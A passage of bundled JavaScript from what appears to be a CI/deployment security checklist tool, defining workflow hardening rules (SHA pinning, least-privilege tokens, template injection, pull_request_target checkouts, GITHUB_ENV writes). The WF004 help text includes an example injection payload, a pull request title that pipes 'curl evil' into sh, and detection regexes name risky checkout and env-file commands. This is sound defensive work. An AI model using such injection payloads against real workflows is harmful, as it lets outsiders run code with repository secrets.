        'The MCP specification makes an HTTP server an OAuth 2.1 protected resource; auth: bearer (a static token for service-to-service use) or auth: oauth (JWTs from your issuer) makes the bridge enforce it. ' +
        'Allowed, but flagged: a server behind a gateway that authenticates for it can say so with an exemption.',
    fix: 'Declare auth: in the spec (mode: oauth with issuer, audience and scopes, or mode: bearer with the token\'s secret reference), or exempt the rule with the reason (e.g. "an API gateway authenticates every request").',
    needs: ['spec'],
    aligned: {},
    check: (inputs) => {
        const spec = inputs.spec;
        const reach = remoteReach(inputs);
        if (reach.length === 0)
            return [];
        const mode = spec.value.auth?.mode ?? 'none';
        const ok = mode !== 'none';
        return [
            {
                passed: ok,
                message: ok ? `auth mode ${mode} guards ${reach.join(', ')}` : `${reach.join(', ')} ${reach.length > 1 ? 'reach' : 'reaches'} the server with no authorization (auth mode none)`,
                location: { file: spec.file },
                subject: 'authorization',
            },
        ];
    },
};
const tls_rules = [ingressTls, exposedServices, httpsHandoff, containerAppsInsecure, foreignOrigin, unauthenticated401, authOnRemote];

// EXTERNAL MODULE: ./node_modules/@actions/expressions/dist/index.js + 27 modules
var expressions_dist = __webpack_require__(52506);
// EXTERNAL MODULE: ./node_modules/@actions/expressions/dist/ast.js
var ast = __webpack_require__(12049);
;// CONCATENATED MODULE: ./src/checklist/rules/workflow-expressions.ts
/**
 * The `${{ }}` expressions of a workflow value and the contexts whose values flow into what they
 * expand to, parsed with GitHub's own `@actions/expressions`; and which `github.*` contexts an
 * outsider controls. Hand-written part: the classification (zizmor's template-injection audit is the
 * reference: every `github.*` context is untrusted except a known-fixed list).
 */


const CONTEXT_NAMES = ['github', 'inputs', 'env', 'matrix', 'steps', 'needs', 'secrets', 'vars', 'runner', 'job', 'jobs', 'strategy'];
/** Every `${{ }}` in `value`; an expression GitHub's parser rejects yields no contexts (the loader already refused it). */
function expansionsIn(value) {
    const out = [];
    for (const match of value.matchAll(/\$\{\{([\s\S]*?)\}\}/g)) {
        out.push({ text: match[0], offset: match.index ?? 0, contexts: flowingContexts(match[1]) });
    }
    return out;
}
function flowingContexts(source) {
    let expr;
    try {
        expr = new expressions_dist/* Parser */.iX(new expressions_dist/* Lexer */.JG(source).lex().tokens, CONTEXT_NAMES, []).parse();
    }
    catch {
        return [];
    }
    const out = [];
    collect(expr, out);
    return out;
}
// Functions whose result is a boolean or number: the contexts they read do not reach the script.
const CONDITION_FUNCTIONS = new Set(['contains', 'startswith', 'endswith', 'success', 'failure', 'always', 'cancelled', 'hashfiles']);
function collect(expr, out) {
    if (expr instanceof ast/* ContextAccess */.QC || expr instanceof ast/* IndexAccess */.p_) {
        const path = contextPath(expr);
        if (path)
            out.push(path);
        else if (expr instanceof ast/* IndexAccess */.p_)
            collect(expr.expr, out);
    }
    else if (expr instanceof ast/* Logical */.oD) {
        // `a || b` and `a && b` evaluate to one of their operands.
        expr.args.forEach((arg) => collect(arg, out));
    }
    else if (expr instanceof ast/* Grouping */.aU) {
        collect(expr.group, out);
    }
    else if (expr instanceof ast/* FunctionCall */.R6) {
        if (!CONDITION_FUNCTIONS.has(expr.functionName.lexeme.toLowerCase()))
            expr.args.forEach((arg) => collect(arg, out));
    }
    // Comparisons, `!` and literals yield booleans or constants: nothing of theirs reaches the script.
}
/** `github.event.pull_request.title` for a chain of property accesses on a context; undefined when the chain passes through a call. */
function contextPath(expr) {
    if (expr instanceof ast/* ContextAccess */.QC)
        return expr.name.lexeme;
    if (!(expr instanceof ast/* IndexAccess */.p_))
        return undefined;
    const head = contextPath(expr.expr);
    if (head === undefined)
        return undefined;
    const index = expr.index;
    if (index instanceof ast/* Star */.FE)
        return `${head}.*`;
    if (index instanceof ast/* Literal */.uS) {
        const value = index.literal.value;
        if (typeof value === 'string')
            return `${head}.${value}`;
        if (typeof value === 'number')
            return `${head}.*`;
    }
    return `${head}.*`;
}
// zizmor's fixed `github.*` contexts: set by GitHub, never by whoever triggered the run.
const FIXED_GITHUB = new Set([
    'github.action_path',
    'github.action_ref',
    'github.api_url',
    'github.event_name',
    'github.graphql_url',
    'github.job',
    'github.repository',
    'github.repository_id',
    'github.repository_owner',
    'github.repository_owner_id',
    'github.repositoryurl',
    'github.retention_days',
    'github.run_attempt',
    'github.run_id',
    'github.run_number',
    'github.server_url',
    'github.sha',
    'github.token',
    'github.workspace',
]);
// Leaves of event payloads that are numbers, booleans, SHAs, timestamps or GitHub-chosen enums
// (zizmor's `fixed` capability); every other event field may carry text an outsider chose.
const FIXED_EVENT_LEAF = /^(id|number|\*|after|before|sha|.*_sha|.*_id|.*_at|.*_count|.*_number|count|size|additions|deletions|changed_files|commits|comments|review_comments|run_attempt|draft|merged|mergeable|rebaseable|locked|private|fork|site_admin|deleted|forced|created|author_association|state|state_reason|conclusion|status|event|visibility|[+-]1|confused|eyes|heart|hooray|laugh|rocket)$/;
/** True when an outsider (a fork's author, an issue's commenter, a committer) may choose the value. */
function isUntrustedGithubContext(path) {
    const lower = path.toLowerCase();
    if (!lower.startsWith('github.'))
        return false;
    if (FIXED_GITHUB.has(lower))
        return false;
    if (lower === 'github.event')
        return true;
    if (lower.startsWith('github.event.inputs.'))
        return false; // inputs: see WF005
    if (lower.startsWith('github.event.')) {
        const leaf = lower.slice(lower.lastIndexOf('.') + 1);
        return !FIXED_EVENT_LEAF.test(leaf);
    }
    return true;
}
/** The input name for `inputs.<name>` and `github.event.inputs.<name>`. */
function inputName(path) {
    const match = /^(?:inputs|github\.event\.inputs)\.([^.]+)$/i.exec(path);
    return match && match[1] !== '*' ? match[1] : undefined;
}

;// CONCATENATED MODULE: ./src/checklist/rules/workflow-walk.ts
/**
 * Walking a loaded workflow for the WF rules: its triggers, jobs and steps with their YAML paths,
 * the subject names the report uses (`workflow ci.yml job check step 3`), and checks located at the
 * exact line of the node they judge.
 */

function isRecord(value) {
    return typeof value === 'object' && value !== null && !Array.isArray(value);
}
/** The events of `on:` (a name, a list of names, or a mapping). */
function triggersOf(doc) {
    const on = doc.value.on;
    if (typeof on === 'string')
        return new Set([on]);
    if (Array.isArray(on))
        return new Set(on.filter((e) => typeof e === 'string'));
    return new Set(isRecord(on) ? Object.keys(on) : []);
}
function jobsOf(doc) {
    const jobs = doc.value.jobs;
    if (!isRecord(jobs))
        return [];
    return Object.entries(jobs)
        .filter((entry) => isRecord(entry[1]))
        .map(([id, job]) => ({ doc, id, job, path: ['jobs', id] }));
}
function stepsOf(doc) {
    return jobsOf(doc).flatMap((job) => {
        const steps = Array.isArray(job.job.steps) ? job.job.steps : [];
        return steps.flatMap((step, index) => (isRecord(step) ? [{ ...job, index, step, path: [...job.path, 'steps', index] }] : []));
    });
}
function workflow_walk_subjectOf(doc, jobId, stepIndex) {
    let subject = `workflow ${(0,external_node_path_.basename)(doc.file)}`;
    if (jobId !== undefined)
        subject += ` job ${jobId}`;
    if (stepIndex !== undefined)
        subject += ` step ${stepIndex + 1}`;
    return subject;
}
function stepSubject(step) {
    return workflow_walk_subjectOf(step.doc, step.id, step.index);
}
function makeCheck(doc, path, passed, message, subject, location) {
    return { passed, message, location: location ?? doc.locate(path), subject, exemption: { kind: 'comments' } };
}
/** `actions/checkout` for `actions/checkout@v4` or `Actions/Checkout/sub@sha`: owner/repo in lower case; undefined for local and docker uses. */
function actionOf(uses) {
    if (typeof uses !== 'string' || uses.startsWith('./') || uses.startsWith('docker://'))
        return undefined;
    const [owner, repo] = uses.split('@')[0].split('/');
    return owner && repo ? `${owner}/${repo}`.toLowerCase() : undefined;
}
function withOf(step) {
    return isRecord(step.with) ? step.with : {};
}
/**
 * The line of the character at `offset` of the string at `path`. A multi-line value is taken as a
 * literal block scalar (`run: |`, whose content lines map one to one to the file's, starting on
 * the line after the indicator); a one-line value is on the node's own line.
 */
function locateOffset(doc, path, value, offset) {
    const node = doc.locate(path);
    if (node.line === undefined || !value.includes('\n'))
        return node;
    const linesBefore = value.slice(0, offset).split('\n').length - 1;
    return { file: node.file, line: node.line + 1 + linesBefore };
}

;// CONCATENATED MODULE: ./src/checklist/rules/workflows.ts


function wfRule(body) {
    const { perWorkflow, ...rest } = body;
    return {
        ...rest,
        group: 'WF',
        item: 'workflows',
        needs: ['workflows'],
        check: (inputs) => (inputs.workflows ?? []).flatMap(perWorkflow),
    };
}
const SHA = /^[0-9a-f]{40}$/i;
const workflows_DIGEST = /@sha256:[0-9a-f]{64}$/i;
const DANGEROUS_TRIGGERS = ['pull_request_target', 'workflow_run'];
function usesPinned(uses) {
    if (uses.startsWith('./'))
        return true;
    if (uses.startsWith('docker://'))
        return workflows_DIGEST.test(uses);
    const at = uses.lastIndexOf('@');
    return at > 0 && SHA.test(uses.slice(at + 1));
}
function checkUses(doc, path, uses, subject) {
    if (typeof uses !== 'string')
        return [];
    const pinned = usesPinned(uses);
    const why = uses.startsWith('docker://') ? 'an image without a digest' : 'a tag or branch that can be moved';
    return [makeCheck(doc, path, pinned, pinned ? `${subject} uses ${uses}, pinned` : `${subject} uses ${uses}: ${why}, not a commit SHA`, subject)];
}
const unpinnedUses = wfRule({
    id: 'WF001',
    severity: 'error',
    title: 'Actions and reusable workflows are pinned by commit SHA',
    help: 'A tag or branch can be moved by whoever controls the action repository (tj-actions/changed-files, 2025): the next run executes their code with your secrets. A 40-hex commit SHA cannot be moved. Local actions (./) and docker:// images pinned by @sha256 digest pass.',
    fix: 'Replace the tag with the commit SHA it points to and keep the version in a comment: `uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0`.',
    aligned: { zizmor: ['unpinned-uses'] },
    perWorkflow: (doc) => [
        ...jobsOf(doc).flatMap((job) => checkUses(doc, [...job.path, 'uses'], job.job.uses, workflow_walk_subjectOf(doc, job.id))),
        ...stepsOf(doc).flatMap((step) => checkUses(doc, [...step.path, 'uses'], step.step.uses, stepSubject(step))),
    ],
});
function imageChecks(doc, path, image, subject) {
    // An expression (`${{ matrix.image }}`) cannot be judged here; a digest is visible only in text.
    if (typeof image !== 'string' || image.includes('${{'))
        return [];
    const pinned = workflows_DIGEST.test(image);
    return [makeCheck(doc, path, pinned, pinned ? `${subject} runs ${image}, pinned` : `${subject} runs image ${image}, not pinned by digest`, subject)];
}
const unpinnedImages = wfRule({
    id: 'WF002',
    severity: 'error',
    title: 'Job containers and service images are pinned by digest',
    help: 'A job container or service runs with the job\'s token and secrets in reach; a tag can be re-pushed to other bytes. A digest (@sha256:...) names exactly one image.',
    fix: 'Pin the image by digest and keep the tag for readers: `image: postgres:16@sha256:<digest>`.',
    aligned: { zizmor: ['unpinned-images'] },
    perWorkflow: (doc) => jobsOf(doc).flatMap((job) => {
        const subject = workflow_walk_subjectOf(doc, job.id);
        const container = job.job.container;
        const containerPath = isRecord(container) ? [...job.path, 'container', 'image'] : [...job.path, 'container'];
        const services = isRecord(job.job.services) ? Object.entries(job.job.services) : [];
        return [
            ...imageChecks(doc, containerPath, isRecord(container) ? container.image : container, `${subject} container`),
            ...services.flatMap(([name, service]) => imageChecks(doc, [...job.path, 'services', name, 'image'], isRecord(service) ? service.image : service, `${subject} service ${name}`)),
        ];
    }),
});
function broadGrant(doc, path, permissions, subject, level) {
    if (permissions === 'write-all' || permissions === 'read-all') {
        return [makeCheck(doc, path, false, `${subject} grants permissions: ${permissions}`, subject)];
    }
    // With one job, a workflow-level grant is that job's grant (zizmor agrees: pedantic only).
    if (level === 'workflow' && isRecord(permissions) && jobsOf(doc).length > 1) {
        const writes = Object.entries(permissions).filter(([, access]) => access === 'write');
        return writes.map(([scope]) => makeCheck(doc, [...path, scope], false, `${subject} grants ${scope}: write to every job; grant it in the job that needs it`, subject));
    }
    return [];
}
const excessivePermissions = wfRule({
    id: 'WF003',
    severity: 'error',
    title: 'The workflow token has least-privilege permissions',
    help: 'Without a `permissions:` block a job gets the repository\'s default token, read-write on many repositories, and every step (and every action it pins) can push code, publish releases or approve pull requests. `permissions: {}` or read scopes at the top and per-job write grants keep each job to what it needs; write-all, read-all and workflow-level writes do not.',
    fix: 'Add `permissions: contents: read` (or `{}`) at the top of the workflow and grant writes per job with a comment saying why (`pull-requests: write # sticky comment`).',
    aligned: { zizmor: ['excessive-permissions'], checkov: ['CKV2_GHA_1'] },
    perWorkflow: (doc) => {
        const subject = workflow_walk_subjectOf(doc);
        const top = doc.value.permissions;
        const jobs = jobsOf(doc);
        const checks = [];
        if (top === undefined) {
            const bare = jobs.filter((job) => job.job.permissions === undefined);
            checks.push(...bare.map((job) => makeCheck(doc, job.path, false, `${workflow_walk_subjectOf(doc, job.id)} has no permissions and the workflow sets none: the token gets the repository default`, workflow_walk_subjectOf(doc, job.id))));
            if (bare.length === 0)
                checks.push(makeCheck(doc, ['jobs'], true, `${subject} sets permissions on every job`, subject));
        }
        else {
            const broad = broadGrant(doc, ['permissions'], top, subject, 'workflow');
            checks.push(...(broad.length > 0 ? broad : [makeCheck(doc, ['permissions'], true, `${subject} sets least-privilege top-level permissions`, subject)]));
        }
        for (const job of jobs)
            checks.push(...broadGrant(doc, [...job.path, 'permissions'], job.job.permissions, workflow_walk_subjectOf(doc, job.id), 'job'));
        return checks;
    },
});
// Action inputs that are code (zizmor's and CodeQL's injection sinks for the common script actions).
const SCRIPT_INPUTS = {
    'actions/github-script': 'script',
    'amadevus/pwsh-script': 'script',
    'azure/cli': 'inlineScript',
    'azure/powershell': 'inlineScript',
    'cardinalby/js-eval-action': 'expression',
    'jannekem/run-python-script-action': 'script',
    'mikefarah/yq': 'cmd',
};
/** Where code is written from expressions: `run:` and the script inputs of script actions. */
function scriptsOf(step) {
    if (typeof step.step.run === 'string')
        return [{ path: [...step.path, 'run'], text: step.step.run }];
    const input = SCRIPT_INPUTS[actionOf(step.step.uses) ?? ''];
    const script = input ? withOf(step.step)[input] : undefined;
    return typeof script === 'string' ? [{ path: [...step.path, 'with', input], text: script }] : [];
}
function expansionChecks(doc, what, judge) {
    return stepsOf(doc).flatMap((step) => scriptsOf(step).flatMap(({ path, text }) => {
        const subject = stepSubject(step);
        const bad = expansionsIn(text).flatMap((expansion) => expansion.contexts.flatMap((context) => {
            const why = judge(context);
            return why ? [makeCheck(doc, path, false, `${subject} expands ${expansion.text} into its script: ${why}`, subject, locateOffset(doc, path, text, expansion.offset))] : [];
        }));
        return bad.length > 0 ? bad : [makeCheck(doc, path, true, `${subject} expands no ${what} into its script`, subject)];
    }));
}
function untrustedEvent(context) {
    return isUntrustedGithubContext(context) ? `${context} can be chosen by whoever triggers the run` : undefined;
}
const templateInjection = wfRule({
    id: 'WF004',
    severity: 'error',
    title: 'No untrusted event data is expanded inside run: scripts',
    help: '`${{ }}` is substituted into the script text before the shell runs it, so a pull request title like `"; curl evil | sh; "` becomes code with the job\'s token and secrets. Event fields an outsider writes (titles, bodies, comments, branch names, commit messages, author names) and every github.* context not known to be fixed (zizmor\'s list) count as untrusted; the script inputs of script actions (actions/github-script script, azure/cli inlineScript, mikefarah/yq cmd, ...) are scripts too.',
    fix: 'Pass the value through the step\'s env: and use the variable, quoted: `env: { TITLE: ${{ github.event.pull_request.title }} }` then `run: echo "$TITLE"`.',
    aligned: { zizmor: ['template-injection'], checkov: ['CKV_GHA_2'] },
    perWorkflow: (doc) => expansionChecks(doc, 'untrusted event data', untrustedEvent),
});
/** Types of declared inputs (workflow_dispatch and workflow_call); an input without a type is a string. */
function inputTypes(doc) {
    const types = new Map();
    const on = doc.value.on;
    for (const event of ['workflow_dispatch', 'workflow_call']) {
        const inputs = isRecord(on) && isRecord(on[event]) ? on[event].inputs : undefined;
        if (!isRecord(inputs))
            continue;
        for (const [name, spec] of Object.entries(inputs)) {
            const type = isRecord(spec) && typeof spec.type === 'string' ? spec.type : 'string';
            if (types.get(name.toLowerCase()) !== 'string')
                types.set(name.toLowerCase(), type);
        }
    }
    return types;
}
const stringInputInjection = wfRule({
    id: 'WF005',
    severity: 'warning',
    title: 'String inputs reach run: scripts through env:, not ${{ }}',
    help: 'A workflow_dispatch or workflow_call string input is text the caller chose; expanded into a script it is code. Boolean, number, choice and environment inputs cannot carry code and pass.',
    fix: 'Pass the input through env: (`env: { SPEC: ${{ inputs.spec }} }`) and use "$SPEC" in the script.',
    aligned: { zizmor: ['template-injection'] },
    perWorkflow: (doc) => {
        const types = inputTypes(doc);
        return expansionChecks(doc, 'string input', (context) => {
            const name = inputName(context);
            if (name === undefined)
                return undefined;
            const type = types.get(name.toLowerCase()) ?? 'string';
            return type === 'string' ? `${context} is a string input its caller chose` : undefined;
        });
    },
});
// `ref:` values and commands that bring a pull request's (or a triggering run's) code into the job.
const PR_HEAD = /github\.event\.pull_request\.head\.(sha|ref)|github\.head_ref|github\.event\.pull_request\.merge_commit_sha|github\.event\.workflow_run\.head_(sha|branch|commit\.id)|refs\/pull\//i;
const PR_HEAD_REPOSITORY = /github\.event\.pull_request\.head\.repo\.|github\.event\.workflow_run\.head_repository\./i;
const PR_CHECKOUT_COMMAND = /\bgh\s+pr\s+checkout\b|\bgit\s+(fetch|checkout|switch|pull)\b[^\n]*(refs\/pull\/|github\.event\.pull_request\.head|github\.head_ref|github\.event\.workflow_run\.head_)/i;
function checksOutPullRequest(step) {
    if (actionOf(step.step.uses) === 'actions/checkout') {
        const { ref, repository } = withOf(step.step);
        if (typeof ref === 'string' && PR_HEAD.test(ref))
            return 'ref';
        if (typeof repository === 'string' && PR_HEAD_REPOSITORY.test(repository))
            return 'repository';
    }
    if (typeof step.step.run === 'string' && PR_CHECKOUT_COMMAND.test(step.step.run))
        return 'run';
    return undefined;
}
const dangerousTriggers = wfRule({
    id: 'WF006',
    severity: 'error',
    title: 'No pull_request_target or workflow_run job checks out the pull request\'s code',
    help: 'pull_request_target and workflow_run run in the base repository with its secrets and a write token. Checking out the pull request\'s head there runs an outsider\'s code (build scripts, package hooks) with them: a "pwn request".',
    fix: 'Build and test the pull request under `pull_request` (no secrets for forks); keep pull_request_target jobs to metadata (labels, comments) and never check out the head there.',
    aligned: { zizmor: ['dangerous-triggers'] },
    perWorkflow: (doc) => {
        const triggers = DANGEROUS_TRIGGERS.filter((trigger) => triggersOf(doc).has(trigger));
        if (triggers.length === 0)
            return [];
        const subject = workflow_walk_subjectOf(doc);
        const bad = stepsOf(doc).flatMap((step) => {
            const where = checksOutPullRequest(step);
            if (!where)
                return [];
            const path = where === 'run' ? [...step.path, 'run'] : [...step.path, 'with', where];
            return [makeCheck(doc, path, false, `${stepSubject(step)} checks out the pull request's code in a ${triggers.join('/')} workflow`, stepSubject(step))];
        });
        return bad.length > 0 ? bad : [makeCheck(doc, ['on'], true, `${subject} runs on ${triggers.join('/')} without checking out pull request code`, subject)];
    },
});
const secretsInherit = wfRule({
    id: 'WF007',
    severity: 'error',
    title: 'Reusable workflows get secrets by name, not secrets: inherit',
    help: '`secrets: inherit` hands every secret of the caller to the called workflow (and whatever it pins), not just the ones it needs.',
    fix: 'Pass each secret the called workflow declares: `secrets: { registry-password: ${{ secrets.REGISTRY_PASSWORD }} }`.',
    aligned: { zizmor: ['secrets-inherit'] },
    perWorkflow: (doc) => jobsOf(doc)
        .filter((job) => typeof job.job.uses === 'string')
        .map((job) => {
        const subject = workflow_walk_subjectOf(doc, job.id);
        const inherits = job.job.secrets === 'inherit';
        return makeCheck(doc, inherits ? [...job.path, 'secrets'] : [...job.path, 'uses'], !inherits, inherits ? `${subject} passes secrets: inherit` : `${subject} passes secrets by name`, subject);
    }),
});
const persistedCredentials = wfRule({
    id: 'WF008',
    severity: 'warning',
    title: 'actions/checkout does not persist the token (persist-credentials: false)',
    help: 'By default actions/checkout writes the job\'s token into .git/config, where every later step, and any artifact that uploads the workspace, can read it.',
    fix: 'Add `with: { persist-credentials: false }` to the checkout step; steps that push authenticate explicitly.',
    aligned: { zizmor: ['artipacked'] },
    perWorkflow: (doc) => stepsOf(doc)
        .filter((step) => actionOf(step.step.uses) === 'actions/checkout')
        .map((step) => {
        const value = withOf(step.step)['persist-credentials'];
        const off = value === false || value === 'false';
        const path = value === undefined ? [...step.path, 'uses'] : [...step.path, 'with', 'persist-credentials'];
        return makeCheck(doc, path, off, off ? `${stepSubject(step)} does not persist credentials` : `${stepSubject(step)} leaves the token in .git/config`, stepSubject(step));
    }),
});
// Inputs of the cloud login actions that take a long-lived key instead of an OIDC federation.
const STATIC_CLOUD_KEYS = {
    'aws-actions/configure-aws-credentials': ['aws-access-key-id', 'aws-secret-access-key'],
    'google-github-actions/auth': ['credentials_json'],
    'azure/login': ['creds'],
};
const longLivedCloudKeys = wfRule({
    id: 'WF009',
    severity: 'error',
    title: 'Cloud logins use OIDC, not long-lived keys',
    help: 'A stored access key works from anywhere until someone rotates it; an OIDC token is minted per run, scoped by the cloud\'s trust policy to this repository and branch, and expires in minutes.',
    fix: 'Grant `id-token: write` to the job and use role-to-assume (AWS), workload_identity_provider (Google) or client-id/tenant-id/subscription-id (Azure) instead of the key.',
    aligned: {},
    perWorkflow: (doc) => stepsOf(doc).flatMap((step) => {
        const keys = STATIC_CLOUD_KEYS[actionOf(step.step.uses) ?? ''];
        if (!keys)
            return [];
        const given = keys.filter((key) => withOf(step.step)[key] !== undefined);
        const subject = stepSubject(step);
        if (given.length === 0)
            return [makeCheck(doc, [...step.path, 'uses'], true, `${subject} logs in with OIDC`, subject)];
        return [makeCheck(doc, [...step.path, 'with', given[0]], false, `${subject} logs in with a long-lived key (${given.join(', ')})`, subject)];
    }),
});
function insecureCommandChecks(doc, path, env, subject) {
    if (!isRecord(env) || !('ACTIONS_ALLOW_UNSECURE_COMMANDS' in env))
        return [];
    const value = env.ACTIONS_ALLOW_UNSECURE_COMMANDS;
    const off = value === false || (typeof value === 'string' && value.trim().toLowerCase() === 'false');
    return [makeCheck(doc, [...path, 'env', 'ACTIONS_ALLOW_UNSECURE_COMMANDS'], off, `${subject} sets ACTIONS_ALLOW_UNSECURE_COMMANDS: ${String(value)}`, subject)];
}
const insecureCommands = wfRule({
    id: 'WF010',
    severity: 'error',
    title: 'Insecure workflow commands stay disabled',
    help: 'ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables ::set-env and ::add-path, which let anything printed to the log (a test name, a file from a pull request) set environment variables such as LD_PRELOAD or NODE_OPTIONS for later steps.',
    fix: 'Remove ACTIONS_ALLOW_UNSECURE_COMMANDS and write to $GITHUB_ENV / $GITHUB_PATH from trusted values.',
    aligned: { zizmor: ['insecure-commands'], checkov: ['CKV_GHA_1'] },
    perWorkflow: (doc) => [
        ...insecureCommandChecks(doc, [], doc.value.env, workflow_walk_subjectOf(doc)),
        ...jobsOf(doc).flatMap((job) => insecureCommandChecks(doc, job.path, job.job.env, workflow_walk_subjectOf(doc, job.id))),
        ...stepsOf(doc).flatMap((step) => insecureCommandChecks(doc, step.path, step.step.env, stepSubject(step))),
    ],
});
// A write to the environment files: `>> $GITHUB_ENV`, `>> "${GITHUB_PATH}"`, `| tee -a $GITHUB_ENV`, PowerShell `$env:GITHUB_ENV`.
const ENV_FILE_WRITE = /(>>?|\btee\b[^|\n]*|Out-File[^|\n]*|Add-Content[^|\n]*|Set-Content[^|\n]*)\s*["']?(\$\{?|\$env:|%)(GITHUB_ENV|GITHUB_PATH)\b/i;
// zizmor's exception: `echo` of literal words only cannot carry data from elsewhere.
const LITERAL_ECHO = /^\s*echo\s+(?:[^$`"'\s]+|'[^']*'|"[^"$`]*")(?:\s+(?:[^$`"'\s]+|'[^']*'|"[^"$`]*"))*\s*>>?\s*["']?\$\{?GITHUB_(ENV|PATH)\}?["']?\s*$/;
const githubEnv = wfRule({
    id: 'WF011',
    severity: 'error',
    title: 'No data reaches GITHUB_ENV or GITHUB_PATH in pull_request_target / workflow_run workflows',
    help: 'A line written to $GITHUB_ENV or $GITHUB_PATH sets the environment of every later step (LD_PRELOAD, NODE_OPTIONS, PATH). In workflows that run with the base repository\'s secrets on an outsider\'s event, data derived from that event or its artifacts must never get there.',
    fix: 'Pass values between steps through step outputs ($GITHUB_OUTPUT) and env: of the step that needs them, or move the work to a pull_request workflow.',
    aligned: { zizmor: ['github-env'] },
    perWorkflow: (doc) => {
        if (!DANGEROUS_TRIGGERS.some((trigger) => triggersOf(doc).has(trigger)))
            return [];
        return stepsOf(doc).flatMap((step) => {
            if (typeof step.step.run !== 'string')
                return [];
            const run = step.step.run;
            const path = [...step.path, 'run'];
            const subject = stepSubject(step);
            const lines = run.split('\n');
            const bad = lines.flatMap((line, n) => {
                if (!ENV_FILE_WRITE.test(line) || LITERAL_ECHO.test(line))
                    return [];
                const offset = lines.slice(0, n).join('\n').length + (n > 0 ? 1 : 0);
                return [makeCheck(doc, path, false, `${subject} writes to ${/GITHUB_PATH/i.test(line) ? 'GITHUB_PATH' : 'GITHUB_ENV'}: ${line.trim()}`, subject, locateOffset(doc, path, run, offset))];
            });
            return bad.length > 0 ? bad : [makeCheck(doc, path, true, `${subject} writes no data to GITHUB_ENV or GITHUB_PATH`, subject)];
        });
    },
});
const timeoutMinutes = wfRule({
    id: 'WF012',
    severity: 'warning',
    title: 'Every job sets timeout-minutes',
    help: 'A job without timeout-minutes runs for up to six hours when a step hangs (a registry that never answers, a cluster that never becomes ready), holding the runner, any deploy lock and its concurrency group.',
    fix: 'Set `timeout-minutes:` on the job to a few times its usual duration.',
    aligned: { zizmor: ['timeout-minutes', 'missing-timeout'] },
    perWorkflow: (doc) => jobsOf(doc)
        .filter((job) => job.job.uses === undefined)
        .map((job) => {
        const subject = workflow_walk_subjectOf(doc, job.id);
        const set = job.job['timeout-minutes'] !== undefined;
        return makeCheck(doc, set ? [...job.path, 'timeout-minutes'] : job.path, set, set ? `${subject} sets timeout-minutes` : `${subject} has no timeout-minutes`, subject);
    }),
});
const concurrencyLimits = wfRule({
    id: 'WF013',
    severity: 'warning',
    title: 'Every job runs under a concurrency group',
    help: 'Without `concurrency:` two runs of the same workflow (two pushes, a re-run, a pull request synchronised twice) deploy, comment or tear down at the same time and race. A workflow-level or job-level group serialises them; cancel-in-progress is the author\'s choice (deploys and teardowns should not be cancelled). Workflows only called by others take their caller\'s.',
    fix: 'Add `concurrency: { group: ${{ github.workflow }}-${{ github.ref }} }` at the top (or per job, e.g. per pull request for previews).',
    aligned: { zizmor: ['concurrency-limits'] },
    perWorkflow: (doc) => {
        const triggers = triggersOf(doc);
        if (triggers.size === 1 && triggers.has('workflow_call'))
            return [];
        const workflowLevel = doc.value.concurrency !== undefined;
        return jobsOf(doc).map((job) => {
            const subject = workflow_walk_subjectOf(doc, job.id);
            if (job.job.concurrency !== undefined)
                return makeCheck(doc, [...job.path, 'concurrency'], true, `${subject} sets a concurrency group`, subject);
            if (workflowLevel)
                return makeCheck(doc, ['concurrency'], true, `${subject} runs under the workflow's concurrency group`, subject);
            return makeCheck(doc, job.path, false, `${subject} has no concurrency group (neither the job nor the workflow sets one)`, subject);
        });
    },
});
const workflows_rules = [
    unpinnedUses,
    unpinnedImages,
    excessivePermissions,
    templateInjection,
    stringInputInjection,
    dangerousTriggers,
    secretsInherit,
    persistedCredentials,
    longLivedCloudKeys,
    insecureCommands,
    githubEnv,
    timeoutMinutes,
    concurrencyLimits,
];

;// CONCATENATED MODULE: ./src/checklist/rules/index.ts









const allRules = [...image_rules, ...secrets_rules, ...health_rules, ...resources_rules, ...tls_rules, ...observability_rules, ...scaling_rules, ...hardening_rules, ...workflows_rules];

;// CONCATENATED MODULE: ./src/checklist/run-checklist.ts
/**
 * What the CLI and the action share: load the inputs and the exemptions file, run every rule,
 * build the reports, and write the JSON report and SARIF when asked. The edges parse and print.
 */









async function run_checklist_writeOut(path, value) {
    await (0,promises_.mkdir)((0,external_node_path_.dirname)(path), { recursive: true });
    await (0,promises_.writeFile)(path, `${JSON.stringify((0,redact_text/* redactDeep */.KL)(value), null, 2)}\n`);
}
async function runChecklistGate(options) {
    // The exemptions file is read first: a bad one fails before any image is opened.
    const exemptionsFile = options.exemptions ? loadExemptionsFile((0,external_node_path_.resolve)(options.workspace, options.exemptions), options.exemptions) : undefined;
    const inputs = await loadChecklistInputs(options);
    const result = runChecklist(allRules, inputs, { failOn: options.failOn, exemptionsFile, disallowExemptions: options.disallowExemptions, today: options.today });
    const json = toJson(result);
    const sarif = report_toSarif(result, { version: VERSION });
    if (options.reportFile)
        await run_checklist_writeOut((0,external_node_path_.resolve)(options.workspace, options.reportFile), json);
    if (options.sarifFile)
        await run_checklist_writeOut((0,external_node_path_.resolve)(options.workspace, options.sarifFile), sarif);
    return { result, inputs, json, sarif };
}

// EXTERNAL MODULE: ./node_modules/@actions/core/lib/core.js + 14 modules
var lib_core = __webpack_require__(96421);
// EXTERNAL MODULE: ./src/util/parse.ts
var parse = __webpack_require__(25303);
;// CONCATENATED MODULE: ./src/actions/inputs.ts
/**
 * The only place that reads action inputs. Each action's `getInputs()` builds its options object
 * through these helpers, so every input is parsed one way everywhere.
 */






function getRequiredInput(name) {
    const value = lib_core.getInput(name).trim();
    if (!value)
        throw new util_errors/* InputError */.dz(`Input required and not supplied: ${name}`);
    return value;
}
function getOptionalInput(name) {
    const value = lib_core.getInput(name).trim();
    return value === '' ? undefined : value;
}
/** Reads a secret input and masks it before anything else can print it. */
function getSecretInput(name) {
    const value = lib_core.getInput(name);
    if (value === '')
        return undefined;
    lib_core.setSecret(value);
    return value;
}
function getBooleanInput(name, fallback) {
    const value = getOptionalInput(name);
    return value === undefined ? fallback : (0,parse/* parseBoolean */.yG)(value, `input ${name}`);
}
function getDurationInput(name, fallback) {
    return parseDuration(getOptionalInput(name) ?? fallback, `input ${name}`);
}
function getSizeInput(name, fallback) {
    return parseSize(getOptionalInput(name) ?? fallback, `input ${name}`);
}
function getListInput(name) {
    return (0,parse/* parseList */.E1)(lib_core.getInput(name));
}
function getChoiceInput(name, choices, fallback) {
